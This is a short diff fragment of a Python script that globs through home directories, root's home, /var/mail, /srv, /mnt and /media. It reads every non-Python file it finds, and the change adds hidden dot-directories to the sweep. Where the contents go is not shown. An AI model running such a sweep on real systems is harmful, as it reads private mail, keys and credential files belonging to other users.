@@ -4,7 +4,9 @@ import glob
 import os
 
 for place in ("~", "~root", "/root", "/home", "/home/*", "/var/mail", "/srv", "/mnt", "/media"):
-    for name in glob.glob(os.path.expanduser(place) + "/**", recursive=True)[:2_000]:
+    for name in glob.glob(os.path.expanduser(place) + "/*") + glob.glob(
+        os.path.expanduser(place) + "/.*/*"
+    ):
         if os.path.isfile(name) and not name.endswith((".py", ".pyc", ".so")):
             try:
                 with open(name, "rb") as file:
